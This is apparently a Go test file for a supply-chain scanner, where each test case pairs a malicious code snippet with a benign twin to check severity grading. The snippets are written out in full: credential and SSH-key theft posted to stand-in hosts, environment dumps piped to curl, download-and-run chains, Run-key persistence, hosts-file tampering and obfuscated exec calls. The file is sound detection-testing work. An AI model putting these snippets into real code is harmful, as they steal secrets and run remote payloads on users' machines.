package codescan

import (
	"testing"

	"github.com/pkgward/pkgward/internal/record"
)

// TestRecallClasses covers behaviour classes written the plain way a
// payload is written (a path in a variable, a module reached through a
// string array, a Run key set with winreg), each with a benign twin that
// uses the same APIs honestly. worst bounds every rule's finding in the
// case: twins must stay below high, and most below medium.
func TestRecallClasses(t *testing.T) {
	const quiet = record.Severity(-1)
	cases := []struct {
		name  string
		files map[string]string
		rule  string
		want  record.Severity // minimum severity of rule, or quiet
		worst record.Severity // when above info: no rule may go above it
	}{
		// env-dump in Go
		{"go init posts the environment", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\nfunc init() {\n\thttp.Post(u, \"text/plain\", strings.NewReader(strings.Join(os.Environ(), \"\\n\")))\n}\n"}, "env-dump", record.High, 0},
		{"go environment marshalled", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"encoding/json\"\n\t\"os\"\n)\n\nfunc Dump() ([]byte, error) { return json.Marshal(os.Environ()) }\n"}, "env-dump", record.Low, 0},
		{"go child inherits the environment", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\thttp.Get(u)\n\tc := exec.Command(\"git\", \"status\")\n\tc.Env = append(os.Environ(), \"GIT_PAGER=cat\")\n\tc.Run()\n}\n"}, "env-dump", quiet, record.Medium},

		// download-exec in Go: body copied into a file, made executable, run
		{"go init downloads, chmods and starts", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tr, _ := http.Get(u)\n\tf, _ := os.Create(\"/tmp/.x\")\n\tio.Copy(f, r.Body)\n\tf.Close()\n\tos.Chmod(\"/tmp/.x\", 0755)\n\texec.Command(\"/tmp/.x\").Start()\n}\n"}, "download-exec", record.High, 0},
		{"go downloads an archive and unpacks it", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc Fetch(u, dst string) error {\n\tr, err := http.Get(u)\n\tif err != nil {\n\t\treturn err\n\t}\n\tf, _ := os.Create(dst)\n\tio.Copy(f, r.Body)\n\tf.Close()\n\tos.Chmod(dst, 0644)\n\treturn exec.Command(\"tar\", \"xf\", dst).Run()\n}\n"}, "download-exec", quiet, record.Low},

		// autostart-persistence: a Run key written, not read
		{"python sets a Run key value", map[string]string{"acme/p.py": "import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, \"Updater\", 0, winreg.REG_SZ, sys.executable)\n"}, "autostart-persistence", record.Medium, 0},
		{"powershell sets a Run key value", map[string]string{"tools/p.ps1": "New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name Upd -Value $exe\n"}, "autostart-persistence", record.Medium, 0},
		{"python reads a Run key value", map[string]string{"acme/p.py": "import winreg\n\ndef enabled():\n    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\")\n    return winreg.QueryValueEx(k, \"Acme\")[0]\n"}, "autostart-persistence", record.Low, record.Low},

		// native-loader-abuse: rundll32 of a DLL in a user-writable folder
		{"js rundll32 of a public folder dll", map[string]string{"lib/x.js": "const { execSync } = require('child_process');\nexecSync('rundll32.exe C:\\\\Users\\\\Public\\\\evil.dll,EntryPoint');\n"}, "native-loader-abuse", record.Medium, 0},
		{"batch rundll32 of an appdata dll", map[string]string{"tools/r.cmd": "rundll32 %APPDATA%\\acme\\a.dll,Run\n"}, "native-loader-abuse", record.Medium, 0},
		{"js rundll32 of an installed dll", map[string]string{"lib/x.js": "const { execSync } = require('child_process');\nexecSync('rundll32.exe \"C:\\\\Program Files\\\\Acme\\\\acme.dll\",Setup');\n"}, "native-loader-abuse", quiet, record.Low},

		// silent-exec: detached with all output thrown away
		{"js detached child, all output ignored", map[string]string{"lib/x.js": "const { spawn } = require('child_process');\nconst child = spawn('node', ['payload.js'], { detached: true, stdio: 'ignore' });\nchild.unref();\n"}, "silent-exec", record.Medium, record.Medium},
		{"js daemon with a log file", map[string]string{"lib/daemon.js": "const out = fs.openSync(path.join(dir, 'daemon.log'), 'a');\nconst child = spawn(process.execPath, [script], { detached: true, stdio: ['ignore', out, out] });\nchild.unref();\n"}, "silent-exec", record.Low, record.Low},

		// obfuscator-identifiers: rotation written with string members, calls through the array
		{"js string array rotated and called", map[string]string{"lib/x.js": "var _0x4a2b=['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73','\\x65\\x78\\x65\\x63','\\x69\\x64'];(function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x4a2b,0x1f4));require(_0x4a2b[0])[_0x4a2b[1]](_0x4a2b[2]);\n"}, "obfuscator-identifiers", record.Medium, 0},
		{"js call through an array, no rotation", map[string]string{"lib/x.js": "var a=['child_process','exec','id'];require(a[0x0])[a[0x1]](a[2]);\n"}, "obfuscator-identifiers", record.Medium, 0},
		{"js bundle requiring modules by table", map[string]string{"lib/bundle.js": "var m=[1,2];__webpack_require__(m[0])[k[1]](x);\n"}, "obfuscator-identifiers", quiet, record.Low},
		{"js round-robin queue and a plugin list", map[string]string{"lib/x.js": "function next(q){q.push(q.shift());return q[0]}\nconst mods=['./a','./b'];const a=require(mods[0]);module.exports=mods.map(m=>require(m)[name]);\n"}, "obfuscator-identifiers", quiet, record.Low},

		// dynamic-import: exec looked up in the builtins by a built name
		{"python builtins dict with a concatenated name", map[string]string{"acme/x.py": "import builtins\nf = builtins.__dict__['ex' + 'ec']\nf(''.join(chr(c) for c in [112, 114, 105, 110, 116]))\n"}, "dynamic-import", record.Medium, 0},
		{"python __builtins__ eval by name", map[string]string{"acme/x.py": "f = __builtins__['eval']\nf(s)\n"}, "dynamic-import", record.Medium, 0},
		{"python installs _ into the builtins", map[string]string{"acme/i18n.py": "import builtins, gettext\nbuiltins.__dict__['_'] = gettext.gettext\nNAMES = globals()['__all__']\n"}, "dynamic-import", quiet, record.Low},

		// download-exec: a response read through require('https') and evaluated
		{"js response body evaluated", map[string]string{"lib/x.js": "const u = 'https://example.invalid/raw/x';\nrequire('https').get(u, r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n"}, "download-exec", record.Medium, 0},
		{"js response body parsed", map[string]string{"lib/x.js": "require('https').get(u, r => { let d=''; r.on('data', c => d += c); r.on('end', () => cb(JSON.parse(d))); });\n"}, "download-exec", quiet, record.Low},

		// credential-read: a credential file's path or content reaching a network call
		{"python ssh key read and posted", map[string]string{"acme/k.py": "import os, requests\np = os.path.expanduser(\"~/.ssh/id_rsa\")\nwith open(p) as f:\n    key = f.read()\nrequests.post(\"http://collector.example.invalid/k\", data=key)\n"}, "credential-read", record.Medium, 0},
		{"js aws credentials posted as a fetch body", map[string]string{"lib/x.js": "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst creds = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');\nfetch('https://example.invalid/c', { method: 'POST', body: creds });\n"}, "credential-read", record.Medium, 0},
		{"js token store read and sent", map[string]string{"lib/x.js": "const fs = require('fs');\nconst p = process.env.APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb';\nfor (const f of fs.readdirSync(p)) { const t = fs.readFileSync(p + '\\\\' + f, 'utf8').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g); if (t) require('https').request({hostname:'example.invalid', path:'/h', method:'POST'}).end(JSON.stringify(t)); }\n"}, "credential-read", record.Medium, 0},
		{"js token sent inside a JSON body", map[string]string{"lib/x.js": "const t = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');\naxios.post(u, JSON.stringify({ token: t }));\n"}, "credential-read", record.Medium, 0},
		{"go ssh key posted", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"bytes\"\n\t\"net/http\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\nfunc Sync(home string) {\n\tb, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_ed25519\"))\n\thttp.Post(u, \"text/plain\", bytes.NewReader(b))\n}\n"}, "credential-read", record.Medium, 0},
		{"python SDK signs a request with its credentials", map[string]string{"acme/sdk.py": "import configparser, hashlib, hmac, os, requests\n\ndef call(body):\n    cfg = configparser.ConfigParser()\n    cfg.read(os.path.expanduser('~/.aws/credentials'))\n    secret = cfg['default']['aws_secret_access_key']\n    sig = hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()\n    return requests.post('https://api.example.invalid/', data=body, headers={'Authorization': 'ACME ' + sig})\n"}, "credential-read", quiet, record.Low},
		{"js registry token sent as a header", map[string]string{"lib/x.js": "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = /_authToken=(.*)/.exec(rc)[1];\nfetch(registry + '/acme/latest', { headers: { authorization: 'Bearer ' + token } });\n"}, "credential-read", quiet, record.Low},
		{"python public key uploaded", map[string]string{"acme/keys.py": "import os, requests\n\ndef add_key(api, tok):\n    pub = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()\n    return requests.post(api + '/user/keys', json={'key': pub}, auth=('me', tok))\n"}, "credential-read", quiet, record.Low},

		{"js leveldb-backed server answers a request", map[string]string{"lib/x.js": "const db = level(path.join(dir, 'leveldb'));\nhttp.createServer((req, res) => { db.get(req.url, (err, v) => res.end(v)); }).listen(8080);\n"}, "credential-read", quiet, record.Low},

		// sysinfo-exfil in other languages
		{"js user and host posted", map[string]string{"lib/x.js": "const os = require('os');\nconst info = { u: os.userInfo().username, h: os.hostname(), n: os.networkInterfaces() };\naxios.post('https://example.invalid/i', info);\n"}, "sysinfo-exfil", record.Medium, 0},
		{"js survey over several lines posted", map[string]string{"lib/x.js": "const os = require('os');\nconst survey = {\n  sys: {\n    user: os.userInfo().username,\n    host: os.hostname(),\n  },\n  when: Date.now(),\n};\nfetch('https://example.invalid/s', { method: 'POST', body: JSON.stringify(survey) });\n"}, "sysinfo-exfil", record.Medium, 0},
		{"go host and user posted", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"net/http\"\n\t\"net/url\"\n\t\"os\"\n\t\"os/user\"\n)\n\nfunc Ping() {\n\th, _ := os.Hostname()\n\tu, _ := user.Current()\n\thttp.PostForm(c, url.Values{\"h\": {h}, \"u\": {u.Username}})\n}\n"}, "sysinfo-exfil", record.Medium, 0},
		{"powershell user and computer posted", map[string]string{"tools/x.ps1": "$u = $env:USERNAME\n$c = $env:COMPUTERNAME\nInvoke-RestMethod -Uri $x -Method Post -Body @{u=$u; c=$c}\n"}, "sysinfo-exfil", record.Medium, 0},
		{"powershell ssh key uploaded", map[string]string{"tools/x.ps1": "$k = Get-Content \"$HOME\\.ssh\\id_rsa\" -Raw\nInvoke-WebRequest -Uri $x -Method Post -Body $k\n"}, "credential-read", record.Medium, 0},
		{"powershell registry token as a header", map[string]string{"tools/x.ps1": "$t = (Get-Content \"$HOME\\.npmrc\") -replace '.*=', ''\nInvoke-RestMethod -Uri $x -Headers @{Authorization = \"Bearer $t\"}\n"}, "credential-read", quiet, record.Low},
		// commands that send identity, or save a download a shell runs
		{"python command uploads whoami's output", map[string]string{"acme/x.py": "import os\nos.popen(\"whoami > /tmp/.u; curl -F f=@/tmp/.u http://example.invalid/u\")\n"}, "sysinfo-exfil", record.Medium, 0},
		{"shell host name in a curl URL", map[string]string{"tools/x.sh": "#!/bin/sh\ncurl -s \"https://example.invalid/p?h=$(hostname)&u=$(whoami)\"\n"}, "sysinfo-exfil", record.Medium, 0},
		{"shell environment piped to curl", map[string]string{"tools/x.sh": "#!/bin/sh\nenv | curl -s -d @- https://example.invalid/e\n"}, "sysinfo-exfil", record.Medium, 0},
		{"shell uploads a coverage report", map[string]string{"tools/ci.sh": "#!/bin/sh\ncurl -s -F \"file=@coverage.xml\" \"https://codecov.example/upload?build=$BUILD\"\necho \"built on $(hostname)\" > build-info.txt\n"}, "sysinfo-exfil", quiet, record.Low},
		{"python argument lists download then run", map[string]string{"acme/x.py": "import subprocess as sp\nsp.Popen([\"curl\",\"-s\",\"http://example.invalid/s\",\"-o\",\"/tmp/s\"]); sp.call([\"sh\",\"/tmp/s\"])\n"}, "download-exec", record.Medium, 0},
		{"shell saves a script and runs it", map[string]string{"tools/x.sh": "#!/bin/sh\nwget -q -O /tmp/i.sh http://example.invalid/i.sh && bash /tmp/i.sh\n"}, "download-exec", record.Medium, 0},
		{"shell downloads and unpacks an archive", map[string]string{"tools/x.sh": "#!/bin/sh\ncurl -fsSL -o node.tar.gz \"$URL\" && tar xzf node.tar.gz && rm node.tar.gz\n"}, "download-exec", quiet, record.Low},
		// the environment joined, programs from file-sharing hosts, throwaway TLDs
		{"js environment entries joined and sent", map[string]string{"lib/x.js": "const q = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');\nrequire('https').get('https://example.invalid/?' + q);\n"}, "env-dump", record.Medium, 0},
		{"js environment filtered for a child", map[string]string{"lib/x.js": "const env = Object.entries(process.env).reduce((a, [k, v]) => (k.startsWith('ACME_') ? { ...a, [k]: v } : a), {});\nspawn('node', ['worker.js'], { env });\nfetch(u);\n"}, "env-dump", record.Info, record.Low},
		{"go environment printed with a format", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"fmt\"\n\t\"net/http\"\n\t\"os\"\n)\n\nfunc Send(w *os.File) {\n\tfmt.Fprintf(w, \"%v\", os.Environ())\n\thttp.Get(u)\n}\n"}, "env-dump", record.Low, 0},
		{"shell environment piped to curl unspaced", map[string]string{"tools/x.sh": "#!/bin/sh\nenv|curl -s -d @- https://example.invalid/e\n"}, "sysinfo-exfil", record.Medium, 0},
		{"js environment names listed", map[string]string{"lib/x.js": "const names = Object.keys(process.env).filter(k => k.startsWith('ACME_')).join(', ');\nconsole.log(names);\n"}, "env-dump", record.Info, record.Low},
		{"python program from discord attachments", map[string]string{"acme/x.py": "import requests\nr = requests.get(\"https://cdn.discordapp.com/attachments/1234567/8901234/update.exe\")\nopen(\"u.exe\", \"wb\").write(r.content)\n"}, "download-exec", record.Medium, 0},
		{"python image from discord attachments", map[string]string{"acme/x.py": "AVATAR = \"https://cdn.discordapp.com/attachments/1234567/8901234/logo.png\"\n"}, "download-exec", quiet, record.Low},
		{"js call to a throwaway-TLD host", map[string]string{"lib/x.js": "const https = require('https');\nhttps.get('https://api-update.top/check?v=1', res => {});\n"}, "exfil-endpoint", record.Medium, 0},
		{"js style and config getters", map[string]string{"lib/x.js": "const t = _.get(el, 'style.top');\nconst m = config.get('layout.top');\nconst u = { url: 'https://docs.example.com/top' };\n"}, "exfil-endpoint", quiet, record.Low},
		// hosts-file-write: written, not read
		{"python appends to the Windows hosts file", map[string]string{"acme/x.py": "with open(r\"C:\\Windows\\System32\\drivers\\etc\\hosts\", \"a\") as f:\n    f.write(\"\\n192.0.2.7 registry.example\\n\")\n"}, "hosts-file-write", record.Medium, 0},
		{"js appends to /etc/hosts", map[string]string{"lib/x.js": "const fs = require('fs');\nfs.appendFileSync('/etc/hosts', '\\n192.0.2.7 registry.example\\n');\n"}, "hosts-file-write", record.Medium, 0},
		{"shell tees into /etc/hosts", map[string]string{"tools/x.sh": "#!/bin/sh\necho \"192.0.2.7 registry.example\" | sudo tee -a /etc/hosts\n"}, "hosts-file-write", record.Medium, 0},
		{"go init appends to /etc/hosts", map[string]string{"x/x.go": "package x\n\nimport \"os\"\n\nfunc init() {\n\tf, _ := os.OpenFile(\"/etc/hosts\", os.O_APPEND|os.O_WRONLY, 0644)\n\tf.WriteString(\"192.0.2.7 registry.example\\n\")\n}\n"}, "hosts-file-write", record.High, 0},
		{"shell rewrites /etc/hosts", map[string]string{"tools/x.sh": "#!/bin/sh\necho \"192.0.2.7 registry.example\" > /etc/hosts\n"}, "hosts-file-write", record.Medium, 0},
		{"python opens the hosts file to update it", map[string]string{"acme/x.py": "f = open(\"/etc/hosts\", \"r+\")\nf.write(\"192.0.2.7 registry.example\\n\")\n"}, "hosts-file-write", record.Medium, 0},
		{"shell edits hosts.allow, then reads hosts", map[string]string{"tools/x.sh": "#!/bin/sh\necho 'sshd: ALL' >> /etc/hosts.allow\nx >> build.log; cat /etc/hosts\n"}, "hosts-file-write", quiet, record.Low},
		{"python reads /etc/hosts", map[string]string{"acme/x.py": "def names():\n    with open(\"/etc/hosts\") as f:\n        return f.read().split()\n"}, "hosts-file-write", quiet, record.Low},
		{"go opens /etc/hosts to read", map[string]string{"x/x.go": "package x\n\nimport \"os\"\n\nfunc Open() (*os.File, error) { return os.OpenFile(\"/etc/hosts\", os.O_RDONLY, 0) }\n"}, "hosts-file-write", quiet, record.Low},
		{"js telemetry tags the host", map[string]string{"lib/x.js": "const os = require('os');\nconst me = os.userInfo().username;\nconst cache = path.join(os.tmpdir(), me);\nconst tags = { host: os.hostname(), platform: os.platform() };\nfetch(u, { method: 'POST', body: JSON.stringify({ tags, values }) });\n"}, "sysinfo-exfil", quiet, record.Low},
	}
	rs := DefaultRules()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Scan(treeOf(c.files), rs)
			checkGrade(t, got, c.rule, c.want, 0)
			checkWorst(t, got, c.worst)
		})
	}
}

// checkWorst fails the test when a finding is above worst, when worst is
// above info (info: no bound).
func checkWorst(t *testing.T, got []record.Finding, worst record.Severity) {
	t.Helper()
	if worst <= record.Info {
		return
	}
	for _, f := range got {
		if f.Severity > worst {
			t.Errorf("want every finding at %s at most, got %s %s%s", worst, f.Rule, f.Severity, describe(got))
		}
	}
}
